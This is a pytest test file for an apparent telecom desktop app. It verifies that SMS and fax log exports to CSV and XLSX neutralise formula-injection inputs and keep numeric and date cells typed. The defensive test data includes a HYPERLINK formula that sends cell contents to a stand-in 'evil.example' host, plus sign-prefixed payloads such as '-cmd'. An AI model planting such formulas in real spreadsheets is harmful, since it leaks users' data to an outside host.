"""Exports never carry live formulas, and keep numbers, amounts and dates typed (issue 13).

Hostile SMS texts and fax station IDs are put in a sandbox (tests/helpers/hostile.py), read
over HTTP by a real client, exported as the raw log columns (kinds from ``contract.logs``)
with ``core.export.write_rows``, and read back with openpyxl and the csv module.
"""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Iterator, Sequence
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from tests.helpers.hostile import (
    BELL,
    CARRIAGE_RETURN,
    FIRST_ID,
    FORMULAS,
    TEXTS,
    add_hostile_rows,
)
from traitel_desktop.api import TraiTelClient
from traitel_desktop.contract.logs import LOGS
from traitel_desktop.core.export import CSV, XLSX, CellKind, Column, write_rows
from traitel_desktop.core.log_cells import log_columns, log_row
from traitel_desktop.core.money import format_cost
from traitel_desktop.core.sheet_cells import formula_like, xlsx_text


@pytest.fixture
def client(sandbox: Any) -> Iterator[TraiTelClient]:
    c = TraiTelClient("demo", "demo", gateways=(sandbox.primary_url, sandbox.alternate_url))
    try:
        yield c
    finally:
        c.close()


@pytest.fixture
def day(sandbox: Any) -> dt.date:
    return add_hostile_rows(sandbox)


def added(client: TraiTelClient, log: str, day: dt.date) -> list[tuple[Any, ...]]:
    rows = [r for r in client.log(log, day, day).rows() if r[0] >= FIRST_ID]
    assert rows
    return sorted(rows)


def export_raw(path: Path, kind: str, log: str, rows: Sequence[Sequence[Any]]) -> None:
    spec = LOGS[log]
    typed = log_row(spec)
    write_rows(path, kind, log_columns(spec), lambda i: typed(rows[i]), len(rows))


def read_csv(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return list(csv.reader(handle))


def sheet_rows(path: Path) -> list[list[Any]]:
    """The cells (not only values) of the first sheet, read fully (styles included)."""
    book = openpyxl.load_workbook(path)
    return [list(row) for row in book.active.iter_rows()]


def assert_text_cell(cell: Any, text: str) -> None:
    """An XLSX text cell holding ``text`` exactly, quote-prefixed iff it looks like a
    formula."""
    stored = xlsx_text(text)
    assert cell.data_type == "s", (text, cell.data_type)
    assert cell.value == stored
    assert bool(cell.quotePrefix) == formula_like(stored), text


def test_hostile_sms_are_text_cells_in_xlsx(
    client: TraiTelClient, day: dt.date, tmp_path: Path
) -> None:
    rows = added(client, "logsmsin", day)
    path = tmp_path / "sms.xlsx"
    export_raw(path, XLSX, "logsmsin", rows)
    back = sheet_rows(path)
    spec = LOGS["logsmsin"]
    assert [c.value for c in back[0]] == list(spec.headers)
    assert len(back) - 1 == len(rows) == len(TEXTS) + len(FORMULAS) + 1
    message = spec.index("Message")
    assert all(c.data_type != "f" for row in back for c in row)
    for cells, sent in zip(back[1:], rows, strict=True):
        assert_text_cell(cells[message], sent[message])
        assert_text_cell(cells[spec.index("From")], "+61400000000")
        assert cells[0].data_type == "n" and cells[0].value == sent[0]
        assert cells[spec.index("Date")].is_date
        assert cells[spec.index("Date")].value.date() == day
        assert cells[spec.index("Time")].value == dt.time.fromisoformat(sent[3])
    assert "\ufffd" in back[-1][message].value  # the bell: the row is there, marked


def test_hostile_sms_are_neutralised_in_csv(
    client: TraiTelClient, day: dt.date, tmp_path: Path
) -> None:
    rows = added(client, "logsmsin", day)
    path = tmp_path / "sms.csv"
    export_raw(path, CSV, "logsmsin", rows)
    back = read_csv(path)
    message = LOGS["logsmsin"].index("Message")
    assert len(back) - 1 == len(rows)
    for written, sent in zip(back[1:], rows, strict=True):
        text = sent[message]
        assert written[message] == ("'" + text if formula_like(text) else text)
        assert not formula_like(written[message])
        assert written[:4] == [str(sent[0]), str(sent[1]), day.isoformat(), sent[3]]
        assert written[4] == "'+61400000000"  # a text column: even a number is neutralised
    by_text = {s[message]: w[message] for w, s in zip(back[1:], rows, strict=True)}
    assert by_text["-cmd"] == "'-cmd" and by_text["-1+2"] == "'-1+2"
    assert by_text['=HYPERLINK("http://evil.example/?x="&A2,"Refund")'].startswith("'=")
    assert by_text["\t=1+1"] == "'\t=1+1" and by_text[" =1+1"] == "' =1+1"
    assert by_text["\uff1d1+1"] == "'\uff1d1+1"
    assert by_text["#N/A"] == "#N/A" and by_text["1+1=2"] == "1+1=2"
    assert by_text[BELL] == BELL  # CSV holds any character


def test_hostile_fax_station_ids(client: TraiTelClient, day: dt.date, tmp_path: Path) -> None:
    rows = added(client, "logfaxin", day)
    spec = LOGS["logfaxin"]
    station = spec.index("FaxStationID")
    export_raw(tmp_path / "fax.csv", CSV, "logfaxin", rows)
    export_raw(tmp_path / "fax.xlsx", XLSX, "logfaxin", rows)
    back_csv, back_xlsx = read_csv(tmp_path / "fax.csv"), sheet_rows(tmp_path / "fax.xlsx")
    assert len(back_csv) == len(back_xlsx) == len(rows) + 1 == len(TEXTS) + 1
    for written, cells, sent in zip(back_csv[1:], back_xlsx[1:], rows, strict=True):
        text = sent[station]  # the reading drops white space around it
        assert not formula_like(written[station])
        assert written[station] in (text, "'" + text)
        assert written[spec.index("From")] == "'-61298765432"
        assert_text_cell(cells[station], text)
        for name in ("Pages", "Speed", "Duration"):
            assert cells[spec.index(name)].data_type == "n"
        assert cells[spec.index("Duration")].value == 65  # the API's seconds


@pytest.mark.parametrize("log", ["logvoiceout", "logsmsout", "logfaxout"])
def test_raw_numbers_amounts_and_dates_are_typed(
    client: TraiTelClient, sandbox: Any, tmp_path: Path, log: str
) -> None:
    today = sandbox.today_for("Australia/Sydney")
    rows = client.log(log, today - dt.timedelta(days=30), today).rows()[:300]
    assert rows
    spec = LOGS[log]
    export_raw(tmp_path / "x.xlsx", XLSX, log, rows)
    export_raw(tmp_path / "x.csv", CSV, log, rows)
    cells_back, texts_back = sheet_rows(tmp_path / "x.xlsx"), read_csv(tmp_path / "x.csv")
    money = spec.money_index
    assert money is not None
    for cells, texts, sent in zip(cells_back[1:], texts_back[1:], rows, strict=True):
        amount = Decimal(sent[money]).scaleb(-6)
        cost = cells[money]
        assert cost.data_type == "n" and isinstance(cost.value, int | float)
        assert Decimal(str(cost.value)) == amount
        decimals = len(format_cost(amount).partition(".")[2])
        assert cost.number_format == "0." + "0" * decimals
        assert texts[money] == format_cost(amount)  # as the app shows it, not "0.090000"
        for i, column in enumerate(spec.columns):
            if column.kind.value in ("int", "opt_int") and sent[i] is not None:
                assert cells[i].data_type == "n" and cells[i].value == sent[i]
                assert texts[i] == str(sent[i])
        assert cells[spec.index("Date")].is_date and cells[spec.index("Time")].is_date
        assert cells[spec.index("Date")].number_format == "yyyy-mm-dd"


def test_texts_written_without_column_kinds_are_safe_too(tmp_path: Path) -> None:
    """Plain titles make text columns: the same rule (and no formula) for any caller."""
    texts = (*TEXTS, CARRIAGE_RETURN)
    rows = [[t, t] for t in texts]
    write_rows(tmp_path / "t.xlsx", XLSX, ["A", "B"], rows.__getitem__, len(rows))
    write_rows(tmp_path / "t.csv", CSV, ["A", "B"], rows.__getitem__, len(rows))
    for cells, text in zip(sheet_rows(tmp_path / "t.xlsx")[1:], texts, strict=True):
        assert_text_cell(cells[0], text)
    for written, text in zip(read_csv(tmp_path / "t.csv")[1:], texts, strict=True):
        assert written[0] == ("'" + text if text in (*FORMULAS, CARRIAGE_RETURN) else text)


def test_a_control_character_does_not_stop_an_xlsx_export(tmp_path: Path) -> None:
    rows = [["fine"], [BELL], ["\x00\x1b[31m"], ["also fine"]]
    path = tmp_path / "c.xlsx"
    assert write_rows(path, XLSX, ["Message"], rows.__getitem__, len(rows)) == 4
    values = [r[0].value for r in sheet_rows(path)[1:]]
    assert values == ["fine", "bell \ufffd =1+1", "\ufffd\ufffd[31m", "also fine"]


def test_numbers_stay_numbers_and_text_columns_neutralise_signs(tmp_path: Path) -> None:
    columns = [Column("Amount", CellKind.MONEY), Column("Count", CellKind.INTEGER),
               Column("Note")]
    rows: list[list[object]] = [
        [Decimal("-1.50"), -3, "-1+2"], [Decimal("0.000015"), 7, "-cmd"],
        [Decimal("12"), None, "+"], ["-oops", "=1+1", None],  # values not of their kind
    ]
    write_rows(tmp_path / "n.csv", CSV, columns, rows.__getitem__, len(rows))
    write_rows(tmp_path / "n.xlsx", XLSX, columns, rows.__getitem__, len(rows))
    assert read_csv(tmp_path / "n.csv")[1:] == [
        ["-1.5000", "-3", "'-1+2"], ["0.000015", "7", "'-cmd"], ["12.0000", "", "'+"],
        ["'-oops", "'=1+1", ""],
    ]
    cells = sheet_rows(tmp_path / "n.xlsx")[1:]
    assert [(c.value, c.number_format) for c in cells[0][:2]] == [(-1.5, "0.0000"), (-3, "0")]
    assert (cells[1][0].value, cells[1][0].number_format) == (1.5e-05, "0.000000")
    assert_text_cell(cells[3][0], "-oops")
    assert_text_cell(cells[3][1], "=1+1")


def test_dates_times_and_durations(tmp_path: Path) -> None:
    columns = [Column("When", CellKind.DATETIME), Column("Day", CellKind.DATE),
               Column("At", CellKind.TIME), Column("Took", CellKind.DURATION)]
    when = dt.datetime(2024, 2, 29, 23, 59, 58)
    rows: list[list[object]] = [
        [when, when.date(), when.time(), 65], [None, None, None, 90_061],
        ["not a date", "2024-02-30", "x", "-1"],
    ]
    write_rows(tmp_path / "d.csv", CSV, columns, rows.__getitem__, len(rows))
    write_rows(tmp_path / "d.xlsx", XLSX, columns, rows.__getitem__, len(rows))
    assert read_csv(tmp_path / "d.csv")[1:] == [
        ["2024-02-29 23:59:58", "2024-02-29", "23:59:58", "0:01:05"],
        ["", "", "", "25:01:01"],
        ["not a date", "2024-02-30", "x", "'-1"],
    ]
    cells = sheet_rows(tmp_path / "d.xlsx")[1:]
    assert [c.value for c in cells[0]] == [
        when, dt.datetime(2024, 2, 29), when.time(), dt.timedelta(seconds=65)]
    assert [c.number_format for c in cells[0]] == [
        "yyyy-mm-dd hh:mm:ss", "yyyy-mm-dd", "hh:mm:ss", "[h]:mm:ss"]
    assert cells[1][3].value == dt.timedelta(days=1, seconds=3661)
    assert [c.data_type for c in cells[2]] == ["s"] * 4
